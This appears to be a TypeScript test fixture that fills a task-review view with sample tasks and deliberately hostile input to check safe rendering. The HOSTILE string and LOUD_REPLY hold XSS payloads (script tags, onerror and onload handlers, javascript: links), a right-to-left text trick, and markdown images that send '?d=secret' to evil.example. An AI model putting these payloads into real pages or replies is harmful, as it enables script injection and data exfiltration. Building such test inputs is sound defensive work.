import type { Stand } from "./stand.harness.ts";

/** What a program may write into a request to be taken for something else: markup, addresses, turned text, great length. */
export const HOSTILE = [
  "<script>document.title='taken'</script><img src=https://evil.example/a.png onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "javascript:alert(1)",
  "\u202eeteled ot drawrof\u202c",
  "![x](https://evil.example/?d=secret)",
  "W".repeat(300),
].join(" ");

/** A reply with everything that could lead elsewhere. */
export const LOUD_REPLY = `# Here is what I found

![a chart](https://evil.example/?d=secret) and <img src="https://evil.example/b.png">

| Name | Cost |
| --- | ---: |
| [a page](https://example.com/a) | 1 |

- [bad](javascript:alert(1))
- \`code\`

\`\`\`
${"x".repeat(200)}
\`\`\`
`;

/** One of everything that a view can show. */
export async function fill({ as, task }: Stand): Promise<void> {
  await task("waits-1");
  await task("waits-hostile", { description: HOSTILE, operations: ["data_deletion"] });
  await task("runs", { type: "code", description: "Implement the search box", estimatedCost: 5.5 });
  await task("ended", { type: "code", description: "Write the release notes", estimatedCost: 2 });
  await as("agency", "POST", "/api/tasks/ended/finish", { actualCost: 1.25, outcome: "succeeded" });
  await task("stopped", { type: "code", description: "Sort the inbox", estimatedCost: 1 });
  await as("personal", "POST", "/api/halt", { taskId: "stopped", reason: "not today" });
  await task("denied", { description: "Delete the production DB" });
}
